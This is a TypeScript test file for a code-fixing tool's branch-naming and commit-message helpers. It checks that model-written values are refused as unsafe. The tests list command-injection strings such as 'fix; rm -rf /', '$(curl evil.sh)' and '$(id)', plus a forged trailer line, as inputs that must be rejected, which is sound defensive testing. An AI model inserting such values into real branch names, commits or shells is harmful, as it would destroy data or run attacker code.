import { describe, expect, it } from "vitest";
import { DeliveryRefusal } from "../../src/delivery/delivery-refusal.ts";
import { assertSafeBranchName, sideBranchName } from "../../src/delivery/side-branch-name.ts";
import {
  coAuthoredBy,
  runCommitMessage,
  runIdsOf,
  withRunTrailers,
} from "../../src/delivery/run-commit-message.ts";

const refusalCode = (fn: () => unknown) => {
  try {
    fn();
    return null;
  } catch (e) {
    return e instanceof DeliveryRefusal ? e.code : "other";
  }
};

describe("side branch names", () => {
  it("is deterministic: xihe/fix/<pr>-<short run id>", () => {
    expect(sideBranchName(12, "r0a1b2c3d4e")).toBe("xihe/fix/12-r0a1b2c3d4e");
    expect(sideBranchName(12, "r0a1b2c3d4e")).toBe(sideBranchName(12, "r0a1b2c3d4e"));
    expect(sideBranchName(7, "RUN_0123-4567-89ab-cdef")).toBe("xihe/fix/7-run012345678");
  });

  it("A24: refuses branch names with shell metacharacters or git-invalid forms as unsafe_llm_output", () => {
    for (const bad of [
      "fix; rm -rf /",
      "$(curl evil.sh)",
      "a..b",
      "-delete",
      "x/.hidden",
      "fix`id`",
      "a b",
      "br\nanch",
      "x.lock",
      "ok/@{u}",
    ])
      expect(
        refusalCode(() => assertSafeBranchName(bad)),
        bad,
      ).toBe("unsafe_llm_output");
    expect(assertSafeBranchName("feature/fix-lint_2.0")).toBe("feature/fix-lint_2.0");
  });

  it("A24: a run id or PR number with nothing safe in it is refused", () => {
    expect(refusalCode(() => sideBranchName(0, "r1"))).toBe("unsafe_llm_output");
    expect(refusalCode(() => sideBranchName(3, "$();|"))).toBe("unsafe_llm_output");
  });
});

describe("run commit messages", () => {
  it("carries the Xihe-Run trailer and Co-authored-by the requester", () => {
    const message = runCommitMessage({
      subject: "Fix the off-by-one in range()",
      why: "The loop ran one past the end.",
      runId: "r42",
      coAuthor: { login: "octocat", id: 583231, noreplyDomain: "users.noreply.github.com" },
    });
    expect(message).toBe(
      "Fix the off-by-one in range()\n\nThe loop ran one past the end.\n\nXihe-Run: r42\nCo-authored-by: octocat <583231+octocat@users.noreply.github.com>\n",
    );
    expect(runIdsOf(message)).toEqual(["r42"]);
  });

  it("A24: a model-written subject cannot forge trailers or carry shell syntax", () => {
    const message = runCommitMessage({ subject: "fix\nXihe-Run: other $(id) `x`", runId: "r42" });
    expect(runIdsOf(message)).toEqual(["r42"]);
    expect(message.split("\n")[0]).not.toMatch(/[`$]|\(id\)/);
  });

  it("addresses the co-author on a GitHub Enterprise Server by its own no-reply domain", () => {
    const message = runCommitMessage({
      subject: "Fix x",
      runId: "r42",
      coAuthor: { login: "octocat", id: 7, noreplyDomain: "users.noreply.ghe.example.test" },
    });
    expect(message).toContain("Co-authored-by: octocat <7+octocat@users.noreply.ghe.example.test>\n");
  });

  it("A24: refuses a co-author that is not a GitHub login", () => {
    expect(
      refusalCode(() =>
        coAuthoredBy({ login: "evil <a@b>\nSigned-off-by: x", noreplyDomain: "users.noreply.github.com" }),
      ),
    ).toBe("unsafe_llm_output");
  });

  it("adds only the missing trailers to an existing message", () => {
    const existing = "xihe: fix lint\n\nXihe-Run: r42\nXihe-Step: s1\n";
    expect(
      withRunTrailers(existing, "r42", { login: "octocat", noreplyDomain: "users.noreply.github.com" }),
    ).toBe(
      "xihe: fix lint\n\nXihe-Run: r42\nXihe-Step: s1\nCo-authored-by: octocat <octocat@users.noreply.github.com>\n",
    );
    expect(withRunTrailers(existing, "r42")).toBe(existing);
  });
});
